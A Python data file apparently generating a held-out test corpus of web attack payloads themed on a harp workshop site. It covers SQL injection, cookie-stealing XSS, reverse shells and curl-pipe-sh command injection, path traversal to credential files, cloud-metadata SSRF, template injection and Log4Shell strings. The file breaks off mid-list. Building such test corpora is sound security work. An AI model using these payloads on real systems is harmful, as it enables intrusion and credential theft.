#!/usr/bin/env python3
"""Attack values for the harpmaker held-out corpus (harp & lyre workshop site).

Almost everything is a hand-written literal. A small share is generated:
hand-written payload pools joined to hand-written theme prefixes (class suffix
"+prefix"), and sqli/traversal payloads percent-encoded once byte-by-byte
(class suffix "+urlencode"). Standard library only, deterministic.
"""
import json
import os
import random

SEED = 26302

# ---------------------------------------------------------------- sqli
SQLI = [
    ("union", "34L walnut' UNION SELECT username, password_hash FROM staff_users-- -"),
    ("union", "C4' union all select null,concat(email,0x3a,pw),null from customers#"),
    ("union", "-1 UNION SELECT 1,table_name,3 FROM information_schema.tables WHERE table_schema=database()"),
    ("union", "nylon') UNION SELECT card_last4, iban, NULL FROM payment_methods--"),
    ("union", "R-17' UnIoN SeLeCt api_key,2,3 FROM integrations WHERE '1'='1"),
    ("union", "0.64' union/**/select/**/group_concat(column_name),2/**/from/**/information_schema.columns/**/where/**/table_name='invoices'-- "),
    ("union", "INV-0193' UNION SELECT sql,null FROM sqlite_master--"),
    ("union", "harp%' UNION SELECT name, setting FROM pg_settings --"),
    ("union", "1 union select @@version,user(),database()"),
    ("union", "x' UNION ALL SELECT NULL,NULL,NULL,NULL,version()::text--"),
    ("union", "G5') )  UNION SELECT login,pass FROM admin_users LIMIT 1 OFFSET 0-- x"),
    ("boolean", "Celtic' OR '1'='1"),
    ("boolean", "C-0087' or 1=1-- "),
    ("boolean", "walnut' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a"),
    ("boolean", "34 AND 1=1"),
    ("boolean", "34 AND ascii(substr((select api_token from settings limit 1),3,1))>77"),
    ("boolean", "lyre' AND (SELECT COUNT(*) FROM staff_users)>0 AND 'z'='z"),
    ("boolean", "x' oR 'a' LIKE 'a"),
    ("boolean", "Okafor' || '1'='1"),
    ("boolean", "' OR 2>1 --"),
    ("boolean", "R-09\" or \"\"=\""),
    ("boolean", "lever') or ('x')=('x"),
    ("boolean", "F#4' AND 'abc'=(SELECT LEFT(pwd,3) FROM staff WHERE role='admin')-- -"),
    ("auth-bypass", "workshop-admin'-- "),
    ("auth-bypass", "siobhan@workshop.test' OR 1=1 LIMIT 1 -- -"),
    ("auth-bypass", "') OR ('1'='1'--"),
    ("auth-bypass", "anything' OR username IS NOT NULL#"),
    ("error-based", "C2' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- -"),
    ("error-based", "1 AND updatexml(null,concat(0x3a,(select password from staff_users limit 1)),null)"),
    ("error-based", "R-23' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("error-based", "' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--"),
    ("error-based", "x' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))y FROM information_schema.plugins GROUP BY y)z)-- "),
    ("error-based", "ticket 3318' AND exp(~(select * from (select user())a))-- -"),
    ("time-based", "walnut' AND SLEEP(6)-- -"),
    ("time-based", "34L'; WAITFOR DELAY '0:0:7'--"),
    ("time-based", "1) AND (SELECT 4412 FROM (SELECT(SLEEP(5)))xQz)-- "),
    ("time-based", "C-0087' || pg_sleep(8) --"),
    ("time-based", "x' AND IF(MID(@@version,1,1)='8',BENCHMARK(9000000,SHA1('h')),0)-- "),
    ("time-based", "lyre'; SELECT CASE WHEN (1=1) THEN pg_sleep(6) ELSE pg_sleep(0) END--"),
    ("time-based", "gut' AND 7788=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("time-based", "22 and sleep(if(length(database())>5,4,0))"),
    ("time-based", "'XOR(if(now()=sysdate(),sleep(9),0))XOR'"),
    ("time-based", "A4' AND 1=(SELECT 1 FROM DUAL WHERE DBMS_PIPE.RECEIVE_MESSAGE('q',7)=1)--"),
    ("stacked", "regulation done'; DROP TABLE tuning_logs;--"),
    ("stacked", "Q-2291'; UPDATE invoices SET status='paid', amount=0 WHERE id=193;--"),
    ("stacked", "x'; INSERT INTO staff_users(login,pw,role) VALUES('ghost','5f4dcc3b','admin');-- "),
    ("stacked", "1; EXEC xp_cmdshell 'whoami'--"),
    ("stacked", "r'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--"),
    ("stacked", "note'; ALTER USER app_rw WITH SUPERUSER;--"),
    ("stacked", "0; DELETE FROM rentals WHERE 1=1 --"),
    ("out-of-band", "x'; EXEC master..xp_dirtree '\\\\q7.attacker.example\\s';--"),
    ("out-of-band", "1' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT pw FROM staff_users LIMIT 1),'.oob.attacker.example\\\\a'))-- "),
    ("out-of-band", "' UNION SELECT UTL_HTTP.REQUEST('http://203.0.113.44/'||(SELECT user FROM dual)) FROM dual--"),
    ("file-access", "-5 UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
    ("file-access", "x' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/uploads/g.php'-- "),
    ("file-access", "1; SELECT pg_read_file('/etc/shadow',0,4000);--"),
    ("obfuscated", "walnut'/*!50000UNION*//*!50000SELECT*/ pw,2 FROM staff_users-- -"),
    ("obfuscated", "x'/**/oR/**/1/**/=/**/1#"),
    ("obfuscated", "1%20UNION%20SELECT%20password%20FROM%20users"),
    ("obfuscated", "34L%27%20or%20%271%27%3D%271"),
    ("obfuscated", "nylon%2527%2520union%2520select%25201%252Cpw%2520from%2520users--"),
    ("obfuscated", "1 UNI/**/ON SEL/**/ECT 1,2"),
    ("obfuscated", "x'\tUNION\nSELECT\rpassword\tFROM\nusers--"),
    ("obfuscated", "lever' /*regulated*/ or /*ok*/ 'q'='q"),
    ("obfuscated", "1+uNioN+aLl+sElEcT+null,concat_ws(0x3a,login,pw)+fRoM+staff_users--+"),
    ("obfuscated", "ｗａｌｎｕｔ＇ ＵＮＩＯＮ ＳＥＬＥＣＴ ｐａｓｓｗｏｒｄ ＦＲＯＭ ｕｓｅｒｓ－－"),
    ("obfuscated", "x%bf%27 OR 1=1-- "),
    ("obfuscated", "R-17' AND 0x31=0x31 UNION SELECT CHAR(97,100,109,105,110),2-- -"),
    ("obfuscated", "1 AND (SELECT 1)=(SELECT 0x31) OR 1=1 -- harp"),
    ("order-by", "price,(SELECT CASE WHEN (SELECT substr(pw,1,1) FROM staff_users LIMIT 1)='a' THEN 1 ELSE 1/0 END)"),
    ("order-by", "created_at DESC, IF((SELECT COUNT(*) FROM staff_users)>3,sleep(4),0)"),
    ("second-order", "Máire O'Sullivan'), ('injected', (SELECT pw FROM staff_users LIMIT 1))-- "),
]
SQLI_ENC_POOL = [
    "' OR 1=1-- -",
    "x' UNION SELECT login,pw FROM staff_users--",
    "1 AND SLEEP(5)",
    "'; DROP TABLE commissions;--",
    "C4' AND extractvalue(1,concat(0x7e,database()))-- ",
    "1) OR (SELECT 1 FROM pg_sleep(6))=1--",
    "walnut' UNION SELECT NULL,version()--",
    "R-33' OR 'b'='b",
    "-1 UNION SELECT 1,@@hostname,3#",
    "nylon'; EXEC xp_cmdshell 'ping 198.51.100.7';--",
]

# ---------------------------------------------------------------- xss
XSS = [
    ("script-tag", "Lovely harp! <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("script-tag", "<script src=//attacker.example/h.js></script>"),
    ("script-tag", "Walnut finish<ScRiPt>new Image().src='//203.0.113.9/x?c='+btoa(document.cookie)</sCrIpT>"),
    ("script-tag", "</textarea><script>alert(document.domain)</script>"),
    ("script-tag", "</title><script>location='//attacker.example/?'+localStorage.getItem('token')</script>"),
    ("script-tag", "<script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8nK2RvY3VtZW50LmNvb2tpZSk='))</script>"),
    ("script-tag", "<script\n>top['al'+'ert'](1)</script\n>"),
    ("script-tag", "<scr<script>ipt>alert(7)</scr</script>ipt>"),
    ("event-handler", "<img src=walnut.jpg onerror=alert(document.cookie)>"),
    ("event-handler", "C3 lever buzzes <img src=/nope.png onerror=\"fetch('//attacker.example/?'+document.cookie)\">"),
    ("event-handler", "<svg onload=alert`1`>"),
    ("event-handler", "<svg/onload=location.href='//attacker.example/'+document.cookie>"),
    ("event-handler", "<body onload=import('//attacker.example/m.js')>"),
    ("event-handler", "<details open ontoggle=alert(1)>harp</details>"),
    ("event-handler", "<input autofocus onfocus=alert(origin) value=\"rental R-17\">"),
    ("event-handler", "<video><source onerror=\"javascript:alert(2)\"></video>"),
    ("event-handler", "<marquee onstart=confirm(1)>tuning sale</marquee>"),
    ("event-handler", "<div onpointerover=\"eval(name)\" style=\"position:fixed;inset:0\">gauge chart</div>"),
    ("event-handler", "<audio src=1 onerror=alert(1)>"),
    ("event-handler", "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"),
    ("event-handler", "<select autofocus onfocus=alert(1)><option>34L</option></select>"),
    ("event-handler", "<a href=# onmouseover=alert(1)>see my harp photos</a>"),
    ("event-handler", "<img src=x oNeRrOr=prompt(1)>"),
    ("event-handler", "<img\tsrc=x\nonerror\r=alert(3)>"),
    ("event-handler", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("event-handler", "<form><button formaction=javascript:alert(1)>Pay invoice</button></form>"),
    ("attribute-breakout", "\" onmouseover=\"alert(1)\" x=\""),
    ("attribute-breakout", "Okafor\" autofocus onfocus=\"fetch('//attacker.example/'+document.cookie)"),
    ("attribute-breakout", "'><img src=x onerror=alert(1)>"),
    ("attribute-breakout", "walnut\"><svg onload=alert(1)>"),
    ("attribute-breakout", "x' style='animation-name:rotation' onanimationstart='alert(1)"),
    ("attribute-breakout", "34L\" accesskey=\"x\" onclick=\"alert(1)"),
    ("js-context", "';alert(document.cookie);//"),
    ("js-context", "\";fetch('//attacker.example/k?'+document.cookie);//"),
    ("js-context", "</script><script>alert(1)</script>"),
    ("js-context", "\\';alert(1);//"),
    ("js-context", "${alert(1)}"),
    ("js-context", "R-17'-alert(1)-'"),
    ("js-context", "harp\\u0027;alert(1);//"),
    ("js-uri", "javascript:alert(document.cookie)"),
    ("js-uri", "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)"),
    ("js-uri", "java\tscript:alert(1)"),
    ("js-uri", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("js-uri", "&#x6A;avascript&colon;alert(1)"),
    ("js-uri", "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"),
    ("js-uri", "data:text/html,<script>alert(1)</script>"),
    ("js-uri", "<a href=\"jav&#x09;ascript:alert(1)\">invoice PDF</a>"),
    ("js-uri", "<iframe src=\"javascript:parent.alert(1)\"></iframe>"),
    ("js-uri", "<object data=\"javascript:alert(1)\"></object>"),
    ("js-uri", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
    ("encoded", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("encoded", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("encoded", "&lt;img src=x onerror=alert(1)&gt;"),
    ("encoded", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("encoded", "\\x3csvg onload=alert(1)\\x3e"),
    ("encoded", "＜script＞alert(1)＜/script＞"),
    ("encoded", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("encoded", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("encoded", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("encoded", "<svg><script>&#x61;lert(1)</script></svg>"),
    ("markdown", "[click for the gauge chart](javascript:alert(document.cookie))"),
    ("markdown", "![harp](x\" onerror=\"alert(1))"),
    ("markdown", "[tuning tips](javascript&#58;alert(1))"),
    ("markdown", "<details><summary>spoiler</summary><img src=x onerror=alert(1)></details>"),
    ("dom-clobber", "<form id=config><input name=apiBase value=//attacker.example></form>"),
    ("dom-clobber", "<a id=defaultAvatar><a id=defaultAvatar name=avatar href=\"cid:&quot;onerror=alert(1)//\">"),
    ("css", "<style>@import'//attacker.example/x.css';</style>"),
    ("css", "<div style=\"background:url(javascript:alert(1))\">"),
    ("svg", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>gauge</text></a></svg>"),
    ("svg", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
    ("template-client", "{{constructor.constructor('alert(1)')()}}"),
    ("template-client", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)></div>"),
    ("template-client", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("meta", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("meta", "<base href=\"//attacker.example/\">"),
]
XSS_POOL = [
    "<img src=x onerror=alert(document.domain)>",
    "<svg onload=fetch('//attacker.example/?c='+document.cookie)>",
    "\"><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<body onpageshow=alert(1)>",
]
XSS_PREFIX = [
    "Commission note: ", "Forum post re lever buzz — ", "Chat: hi is my harp ready? ",
    "Lesson homework: ", "Crate label: FRAGILE ", "Tuning log 06:40 ",
]

# ---------------------------------------------------------------- cmdi
CMDI = [
    ("separator", "pillar_v3.dxf; cat /etc/passwd"),
    ("separator", "gauge_chart_34L.csv;id"),
    ("separator", "C-0087 && curl -s http://attacker.example/i.sh | sh"),
    ("separator", "track.pdf | nc 203.0.113.5 4444 -e /bin/sh"),
    ("separator", "R-17 || wget -qO- http://198.51.100.23/x | bash"),
    ("separator", "harp.jpg\nid"),
    ("separator", "photo.png\r\nuname -a"),
    ("separator", "invoice-0193.pdf; rm -rf /var/www/uploads/*"),
    ("separator", "x & whoami & "),
    ("separator", "report.txt%0Acat%20/etc/shadow"),
    ("separator", "a.wav%3Bid%3B"),
    ("separator", "log_2025-04.txt; bash -c 'bash -i >& /dev/tcp/203.0.113.50/9001 0>&1'"),
    ("separator", "tuning.mp3;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.8\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("separator", "scan.jpg; echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjEyLzgwIDA+JjE= | base64 -d | sh"),
    ("separator", "C4 | tee /var/www/html/s.php <<< '<?php system($_GET[0]);'"),
    ("separator", "lever.stl & powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("separator", "ticket.txt & type C:\\Windows\\win.ini"),
    ("separator", "x | ping -n 12 127.0.0.1"),
    ("separator", "chart.pdf; sleep 9 #"),
    ("separator", "crate.png && nslookup `whoami`.dns.attacker.example"),
    ("substitution", "$(curl http://attacker.example/$(hostname))"),
    ("substitution", "walnut`id`"),
    ("substitution", "Okafor $(cat /etc/passwd | base64 -w0 | curl -d @- attacker.example)"),
    ("substitution", "photo_$(sleep 8).jpg"),
    ("substitution", "`wget -O /tmp/k http://203.0.113.77/k && chmod +x /tmp/k && /tmp/k`"),
    ("substitution", "C-0090$(nc -e /bin/sh 198.51.100.4 4443)"),
    ("substitution", "harp.mid`uname -a > /var/www/html/u.txt`"),
    ("substitution", "\"; $(id) #"),
    ("substitution", "'$(printf \"\\x69\\x64\")'"),
    ("substitution", "<(curl -s attacker.example/x)"),
    ("obfuscated", ";c'a't /e'tc'/pa\"ss\"wd"),
    ("obfuscated", ";cat${IFS}/etc/passwd"),
    ("obfuscated", "x;{cat,/etc/passwd}"),
    ("obfuscated", ";/???/c?t /???/p??s??"),
    ("obfuscated", "|$'\\x63\\x61\\x74' /etc/hostname"),
    ("obfuscated", ";w\\ho\\am\\i"),
    ("obfuscated", ";a=c;b=at;$a$b /etc/passwd"),
    ("obfuscated", "x;$(rev<<<'dwssap/cte/ tac')"),
    ("obfuscated", "1;${PATH:0:1}bin${PATH:0:1}sh -c id"),
    ("obfuscated", "harp.png;IFS=,;`cat<<<uname,-a`"),
    ("obfuscated", ";/bin/bu?ybox nc 203.0.113.61 80 -e sh"),
    ("obfuscated", "%0a/usr/bin/id%0a"),
    ("obfuscated", "C4%26%26curl%20attacker.example%2Fs%7Csh"),
    ("obfuscated", ";{wget,-qO-,attacker.example/b}|sh"),
    ("obfuscated", "&&echo$IFS'PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs='|base64$IFS-d>/var/www/html/q.php"),
    ("argument-injection", "--output=/var/www/html/shell.php http://attacker.example/s.txt"),
    ("argument-injection", "-oProxyCommand=sh -c 'curl attacker.example/a|sh' x@y"),
    ("argument-injection", "--upload-pack=touch /tmp/pwned"),
    ("argument-injection", "-exec sh -c 'id > /tmp/o' ;"),
    ("argument-injection", "foo.pdf -dSAFER=false -sOutputFile=%pipe%id"),
    ("argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("argument-injection", "-X/var/www/html/log.php -OQueueDirectory=/tmp"),
    ("argument-injection", "--post-file=/etc/passwd http://attacker.example/collect"),
    ("imagemagick", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://x.example/a.jpg\"|curl \"attacker.example/m)'\npop graphic-context"),
    ("imagemagick", "|curl -s attacker.example/im|sh"),
    ("windows", "scan.pdf & certutil -urlcache -f http://198.51.100.30/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("windows", "invoice.pdf | cmd /c \"net user ghost P4ss! /add\""),
    ("windows", "x & set /p=<C:\\inetpub\\wwwroot\\web.config"),
    ("windows", "1 & for /f %i in ('whoami') do nslookup %i.attacker.example"),
    ("windows", "C4 ^& dir c:\\"),
    ("shellshock", "() { :;}; /bin/bash -c 'curl http://attacker.example/ss|sh'"),
    ("shellshock", "() { _; } >_[$($())] { echo; /usr/bin/id; }"),
    ("blind", "tuning.wav; ping -c 15 127.0.0.1"),
    ("blind", "crate.jpg && curl -X POST --data-binary @/etc/hostname http://attacker.example/h"),
    ("blind", "gauge.csv|dig +short $(id -u).oob.attacker.example"),
]
CMDI_POOL = [
    "; id", "&& curl attacker.example/r|sh", "| nc 203.0.113.20 9001 -e /bin/sh",
    "$(wget -qO- 198.51.100.9/p|sh)", "`cat /etc/passwd`",
]
CMDI_PREFIX = [
    "pillar_v4.dxf", "harp_photo_0087.jpg", "tuning_log_march.txt", "gauge_34L.pdf", "lyre_kit_manual.pdf",
]

# ---------------------------------------------------------------- traversal
TRAV = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "charts/../../../../../etc/shadow"),
    ("dotdot", "invoices/2025/../../../../var/www/.env"),
    ("dotdot", "../../../../../proc/self/environ"),
    ("dotdot", "../../../../home/workshop/.ssh/id_rsa"),
    ("dotdot", "gauge_34L.pdf/../../../../../etc/hosts"),
    ("dotdot", "..\\..\\..\\..\\windows\\win.ini"),
    ("dotdot", "photos\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("dotdot", "../../../app/config/database.yml"),
    ("dotdot", "../../../../root/.bash_history"),
    ("dotdot", "..//..//..//..//etc//passwd"),
    ("dotdot", "....//....//....//....//etc/passwd"),
    ("dotdot", "..././..././..././etc/passwd"),
    ("dotdot", "....\\\\....\\\\....\\\\windows\\system32\\drivers\\etc\\hosts"),
    ("dotdot", "/var/www/uploads/../../../etc/passwd"),
    ("dotdot", "../../../../proc/self/cmdline"),
    ("dotdot", "../../../../../var/log/nginx/access.log"),
    ("dotdot", "tickets/3318/../../../../../../etc/group"),
    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("encoded", "..%2f..%2f..%2f..%2fetc%2fshadow"),
    ("encoded", "%2e%2e/%2e%2e/%2e%2e/proc/self/environ"),
    ("encoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("double-encoded", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("double-encoded", "..%252f..%252f..%252f..%252fhome%252fworkshop%252f.aws%252fcredentials"),
    ("overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("overlong-utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("overlong-utf8", "%e0%80%ae%e0%80%ae%c0%af%e0%80%ae%e0%80%ae%c0%afetc/passwd"),
    ("overlong-utf8", "..%c1%9c..%c1%9c..%c1%9cboot.ini"),
    ("unicode", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("unicode", "%uff0e%uff0e/%uff0e%uff0e/%uff0e%uff0e/etc/passwd"),
    ("unicode", "．．／．．／．．／etc／passwd"),
    ("null-byte", "../../../../etc/passwd%00.pdf"),
    ("null-byte", "../../../../etc/passwd\\u0000chart.png"),
    ("null-byte", "..%2f..%2f..%2fetc%2fpasswd%00.jpg"),
    ("absolute", "/etc/passwd"),
    ("absolute", "/proc/self/fd/3"),
    ("absolute", "C:\\Windows\\System32\\config\\SAM"),
    ("absolute", "file:///etc/passwd"),
    ("absolute", "\\\\203.0.113.70\\share\\evil.dll"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("wrapper", "php://filter/read=string.rot13/resource=/var/www/html/index.php"),
    ("wrapper", "zip://uploads/harp.zip%23shell.php"),
    ("wrapper", "phar:///var/www/uploads/avatar.jpg/x"),
    ("wrapper", "expect://id"),
    ("zip-slip", "../../../../var/www/html/cmd.jsp"),
    ("mixed", "..\\../..\\../etc/passwd"),
]
TRAV_ENC_POOL = [
    "../../../etc/passwd",
    "../../../../var/www/.env",
    "..\\..\\..\\windows\\win.ini",
    "charts/../../../../proc/self/environ",
    "../../../../home/workshop/.ssh/id_ed25519",
    "../../config/secrets.yml",
]

# ---------------------------------------------------------------- ssrf
SSRF = [
    ("cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("cloud-metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("cloud-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("cloud-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("cloud-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("cloud-metadata", "http://169.254.170.2/v2/credentials/"),
    ("loopback", "http://127.0.0.1:8080/admin/users"),
    ("loopback", "http://localhost:6379/"),
    ("loopback", "https://localhost/server-status"),
    ("loopback", "http://127.1/actuator/env"),
    ("loopback", "http://0.0.0.0:9200/_cat/indices"),
    ("loopback", "http://[::1]:2375/containers/json"),
    ("loopback", "http://[::ffff:127.0.0.1]:8500/v1/agent/self"),
    ("loopback", "http://localtest.me:8080/internal/"),
    ("internal", "http://10.0.0.12:8080/manager/html"),
    ("internal", "http://192.168.1.1/cgi-bin/luci"),
    ("internal", "http://172.17.0.1:2379/v2/keys/?recursive=true"),
    ("internal", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal", "http://vault.internal:8200/v1/secret/data/payments"),
    ("internal", "http://rabbitmq:15672/api/users"),
    ("alt-ip", "http://2130706433/admin"),
    ("alt-ip", "http://0x7f000001/"),
    ("alt-ip", "http://017700000001:8080/"),
    ("alt-ip", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("alt-ip", "http://2852039166/latest/user-data"),
    ("alt-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("alt-ip", "http://169.254.43518/latest/meta-data/"),
    ("alt-ip", "http://127.0.0.1.nip.io:8080/admin"),
    ("alt-ip", "http://①②⑦.⓪.⓪.①/admin"),
    ("parser-confusion", "https://photos.example.org@127.0.0.1:8080/admin"),
    ("parser-confusion", "http://attacker.example#@169.254.169.254/latest/meta-data/"),
    ("parser-confusion", "http://127.0.0.1:80\\@photos.example.org/"),
    ("parser-confusion", "http://169.254.169.254%23.photos.example.org/latest/"),
    ("parser-confusion", "http://localhost%2509:8080/admin"),
    ("redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("redirect", "http://rebind.attacker.example/latest/meta-data/iam/"),
    ("redirect", "https://203.0.113.15/302.php?u=http%3A%2F%2F127.0.0.1%3A6379%2F"),
    ("scheme", "gopher://127.0.0.1:6379/_SET%20k%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%22%0D%0ACONFIG%20SET%20dir%20/var/www/html%0D%0ASAVE%0D%0A"),
    ("scheme", "gopher://localhost:11211/_stats%0d%0a"),
    ("scheme", "dict://127.0.0.1:6379/INFO"),
    ("scheme", "file:///var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("scheme", "ftp://10.1.2.3/backup.sql"),
    ("scheme", "ldap://127.0.0.1:389/dc=workshop,dc=local"),
    ("scheme", "tftp://198.51.100.40/harp.bin"),
    ("scheme", "jar:http://attacker.example/a.jar!/x.class"),
    ("embedded", "Photo of my harp: http://169.254.169.254/latest/meta-data/hostname"),
]
SSRF_POOL = [
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:9000/admin",
    "http://0x7f.1/",
    "http://10.10.0.5:8080/actuator/heapdump",
]
SSRF_PREFIX = [
    "Import gauge chart from URL: ", "Tracking link: ", "Webhook for invoice paid: ",
    "Avatar URL: ", "Reference photo: ",
]

# ---------------------------------------------------------------- code
CODE = [
    ("ssti-jinja", "Dear {{ customer }}, {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('curl attacker.example/j|sh').read() }}"),
    ("ssti-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"),
    ("ssti-jinja", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("ssti-jinja", "{{ lipsum.__globals__['os'].popen('cat /app/.env').read() }}"),
    ("ssti-jinja", "Hi {{ config.items() }}, your lyre is ready"),
    ("ssti-jinja", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("ssti-jinja", "{{ namespace.__init__.__globals__.os.environ }}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('whoami') }}"),
    ("ssti-twig", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-freemarker", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"sh\",\"-c\",\"id\"]).start()}"),
    ("ssti-velocity", "#set($r=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$r.exec(\"touch /tmp/v\")"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb", "Thanks <%= system('curl attacker.example/e|sh') %>"),
    ("ssti-erb", "<%= File.read('/etc/passwd') %>"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{php}echo `whoami`;{/php}"),
    ("ssti-mako", "${__import__('os').popen('id').read()}"),
    ("ssti-mako", "<% import os; os.system('curl attacker.example') %>"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{root.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("el-spring", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}"),
    ("el-spring", "#{T(java.lang.System).getenv()}"),
    ("el-spring", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("el-ognl", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("el-ognl", "${#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('whoami')}"),
    ("el-jsp", "${pageContext.request.getSession().setAttribute(\"admin\",true)}"),
    ("el-jsp", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("el-mvel", "Runtime.getRuntime().exec(\"id\");"),
    ("log4shell", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4shell", "Harp for ${jndi:rmi://203.0.113.31:1099/Exploit}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://x.attacker.example/o}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.12/z}"),
    ("log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/b}"),
    ("log4shell", "${jndi:ldaps://attacker.example/${sys:java.version}}"),
    ("eval-js", "require('child_process').exec('curl attacker.example/n|sh')"),
